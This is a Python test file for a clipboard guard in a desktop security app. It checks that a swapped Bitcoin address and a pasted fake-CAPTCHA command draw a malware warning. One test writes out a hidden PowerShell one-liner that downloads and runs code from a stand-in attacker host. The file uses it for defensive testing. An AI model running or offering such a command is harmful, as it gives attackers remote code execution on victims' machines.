"""Story 12, and the page that has one paste: from Qt's clipboard to what the guard says."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest
from PySide6.QtGui import QGuiApplication
from PySide6.QtWidgets import QApplication

from companion.app import build_sources
from companion.domain.judgement import Act, Threat
from companion.domain.observation import RawItem
from companion.settings import Clipboard, Downloads, Remote, Settings
from companion.sources.clipboard import ClipboardSource
from companion.ui import wording
from companion.ui.clipboard import ClipboardWatch
from tests.support.household import Household
from tests.support.sinks import Sink
from tests.support.story_items import MONDAY

WALLET = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
THIEF = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"

Copy = Callable[[str], None]


@pytest.fixture
def sink() -> Sink:
    return Sink()


@pytest.fixture
def copy(qapp: QApplication, sink: Sink) -> Iterator[Copy]:
    """Somebody else's program copies: the person's browser, or the thief's."""
    on = Settings(downloads=Downloads(on=False), remote=Remote(on=False), clipboard=Clipboard(on=True))
    (source,) = build_sources(on, None, no_clipboard="")
    assert isinstance(source, ClipboardSource)
    watch = ClipboardWatch(lambda: True, source.changed, owned=lambda: False)
    watch.start()
    source.start(sink.submit, sink.report, {})
    yield QGuiApplication.clipboard().setText
    watch.stop()
    source.stop()
    QGuiApplication.clipboard().clear()


def only(sink: Sink) -> RawItem:
    assert sink.wait_items(1)
    (item,) = sink.items
    return replace(item, at=MONDAY)


def test_12_a_copied_wallet_is_replaced_before_it_is_pasted(home: Household, copy: Copy, sink: Sink) -> None:
    copy(WALLET)
    copy(THIEF)
    decision = home.judge(only(sink))
    assert decision.act is Act.WARN
    assert decision.belief.threat is Threat.MALWARE
    shown = wording.facts(home.screen.entries[-1])
    assert "bc1qw5…v8f3t4 → bc1qar…wf5mdq" in [fact.quote for fact in shown]


def test_the_same_wallet_copied_twice_by_hand_is_nothing(home: Household, copy: Copy, sink: Sink) -> None:
    copy(WALLET)
    copy(WALLET)
    copy("something else")
    copy(THIEF)
    assert not sink.wait_items(1, seconds=0.6)


def test_a_page_that_had_commands_copied_is_warned_of(home: Household, copy: Copy, sink: Sink) -> None:
    copy('powershell -w hidden -c "iex (irm https://evil.invalid/a)" # I am not a robot: reCAPTCHA ID 4412')
    decision = home.judge(only(sink))
    assert decision.act is Act.WARN
    assert decision.belief.threat is Threat.MALWARE


def test_the_thief_s_account_ties_the_swap_to_a_message_that_named_it(
    home: Household, copy: Copy, sink: Sink
) -> None:
    copy(WALLET)
    copy(THIEF)
    home.judge(only(sink))
    seen = home.screen.entries[-1].observation
    assert seen is not None
    assert [mention.value for mention in seen.mentions] == [THIEF]
    assert WALLET not in repr(seen)
